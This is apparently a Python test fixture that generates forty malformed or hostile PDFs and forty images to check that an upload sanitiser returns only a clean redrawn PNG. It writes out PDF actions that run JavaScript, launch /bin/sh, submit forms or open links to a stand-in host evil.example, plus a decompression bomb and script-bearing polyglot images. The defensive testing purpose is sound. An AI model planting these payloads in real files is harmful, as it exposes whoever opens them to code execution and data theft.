"""Eighty files that somebody might hand in as a paper to harm whoever opens it: forty PDFs and forty pictures.

Each carries MARK in what it would do, or hides; nothing of it may come out at the other end but a picture drawn anew.
"""

import random
import zlib
from io import BytesIO

from PIL import Image, PngImagePlugin

from tests.imaging import corpus

MARK = b"hostile-mark-7741"
EACH = 40
_JS = "<</S/JavaScript/JS(app.alert('" + MARK.decode() + "'))>>"
_ACTS = (
    "/OpenAction " + _JS,
    "/AA<</WC " + _JS + ">>",
    "/OpenAction<</S/URI/URI(https://evil.example/" + MARK.decode() + ")>>",
    "/OpenAction<</S/Launch/F(/bin/sh)/P(" + MARK.decode() + ")>>",
    "/OpenAction<</S/SubmitForm/F(https://evil.example/)/Flags 4>>",
    "/OpenAction<</S/GoToR/F(//evil.example/" + MARK.decode() + ")>>",
    "/Names<</JavaScript<</Names[(x) " + _JS + "]>>>>",
    "/Names<</EmbeddedFiles<</Names[(evil.exe) 100 0 R]>>>>",
    "/AcroForm<</XFA(<script>" + MARK.decode() + "</script>)>>",
    "/Metadata 100 0 R",
)


def _stream(body: bytes, more: str = "") -> str:
    return f"100 0 obj<<{more}/Length {len(body)}>>stream\n{body.decode('latin-1')}\nendstream endobj\n"


def _nested(depth: int) -> bytes:
    return corpus.pdf(["x"], catalogue="/X " + "[" * depth + "]" * depth)


def _bomb() -> bytes:
    packed = zlib.compress(b"0 0 m 9 9 l S " * 4_000_000, 9)
    return corpus.pdf(["x"], more=_stream(packed, "/Filter/FlateDecode"), catalogue="/Metadata 100 0 R")


def pdfs() -> list[bytes]:
    """Scripts, addresses, programs, files inside, loops, bombs, broken ends, lies about their length or their kind."""
    made = [corpus.pdf([f"page {n}"], catalogue=act, more=_stream(MARK)) for n, act in enumerate(_ACTS)]
    good = corpus.pdf(["A licence"], trailer=f"/Info<</Title({MARK.decode()})/Author({MARK.decode()})>>")
    made += [good, good + MARK, good[: len(good) // 2], good[40:], b"%PDF-1.7\n" + MARK, MARK + good]
    made += [
        _nested(50),
        _nested(5_000),
        _bomb(),
        corpus.pdf(["x"], box="0 0 1 1"),
        corpus.pdf(["x"], box="0 0 9e9 9e9"),
    ]
    made += [corpus.pdf(["x"], box="0 0 -5 -5"), corpus.pdf(["x"] * 21), corpus.pdf([]), corpus.pdf(["("] * 3)]
    made += [
        corpus.pdf(["x"], more="100 0 obj<</Type/Pages/Kids[100 0 R]/Count 1>>endobj\n"),
        corpus.pdf(["x"], trailer="/Prev 0"),
        corpus.pdf(["x"], trailer="/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(y)/P -1>>"),
        good.replace(b"%PDF-1.7", b"<html><script>" + MARK + b"</script>%PDF-1.7"),
        good.replace(b"endobj", b"endobx"),
    ]
    dice = random.Random(7741)
    while len(made) < EACH:
        spoilt = bytearray(dice.choice(made[:12]))
        for _ in range(dice.randrange(1, 40)):
            spoilt[dice.randrange(len(spoilt))] = dice.randrange(256)
        made.append(bytes(spoilt))
    return made[:EACH]


def _png_with_text() -> bytes:
    told, sheet = PngImagePlugin.PngInfo(), BytesIO()
    told.add_text("Comment", MARK.decode())
    told.add_itxt("XML:com.adobe.xmp", MARK.decode())
    corpus.photo(80, 60).save(sheet, "PNG", pnginfo=told)
    return sheet.getvalue()


def pictures() -> list[bytes]:
    """Pages disguised as pictures, bombs, hidden texts, programs at the end, broken and swapped parts."""
    jpeg = corpus.written(corpus.photo(90, 70), comment=MARK)
    svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>" + MARK + b"</script></svg>"
    made = [
        jpeg,
        jpeg + MARK,
        jpeg + b"<?php " + MARK,
        jpeg[:200],
        svg,
        b"<!doctype html><script>" + MARK + b"</script>",
        b"GIF89a" + MARK,
        b"\xff\xd8\xff" + MARK,
        b"\x89PNG\r\n\x1a\n" + MARK,
        b"RIFF\x00\x00\x00\x00WEBP" + MARK,
        b"8BPS" + MARK,
        b"%!PS-Adobe-3.0\n" + MARK,
        _png_with_text(),
        _png_with_text() + corpus.zipped(),
        corpus.jpeg_that_claims(60_000, 60_000),
        corpus.webp_that_claims(16_000, 16_000),
        corpus.png(60_000, 60_000),
        corpus.many_scans(400),
        corpus.animation("PNG", 40),
        corpus.animation("WEBP", 40),
        corpus.two_in_one(),
        corpus.swapped_profile(),
    ]
    made += [content for content, _words in corpus.kinds_not_taken().values()][:8]
    made += list(corpus.damaged().values())[:6]
    dice = random.Random(7742)
    while len(made) < EACH:
        spoilt = bytearray(dice.choice((jpeg, _png_with_text())))
        for _ in range(dice.randrange(1, 30)):
            spoilt[dice.randrange(len(spoilt))] = dice.randrange(256)
        made.append(bytes(spoilt))
    return made[:EACH]


def is_a_drawing(content: bytes) -> bool:
    """A PNG that opens, holds nothing beside its picture, and carries no mark."""
    if MARK in content or not content.startswith(b"\x89PNG\r\n\x1a\n"):
        return False
    at, kinds = 8, []
    while at < len(content):
        length = int.from_bytes(content[at : at + 4])
        kinds.append(content[at + 4 : at + 8])
        at += 12 + length
    with Image.open(BytesIO(content)) as picture:
        picture.load()
    return at == len(content) and set(kinds) <= {b"IHDR", b"PLTE", b"IDAT", b"IEND"}
